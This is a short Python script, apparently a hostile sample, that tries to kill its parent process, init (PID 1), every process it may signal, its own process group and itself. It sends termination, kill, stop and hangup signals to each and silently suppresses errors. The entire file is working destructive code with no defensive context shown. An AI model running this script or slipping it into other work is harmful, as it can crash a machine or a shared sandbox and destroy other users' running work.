"""Kills parent, group, number 1 and everybody."""

import contextlib
import os
import signal

for target in (os.getppid(), 1, -1, 0, os.getpid()):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGHUP):
        with contextlib.suppress(OSError):
            os.kill(target, number)
with contextlib.suppress(OSError):
    os.killpg(os.getpgid(0), signal.SIGKILL)
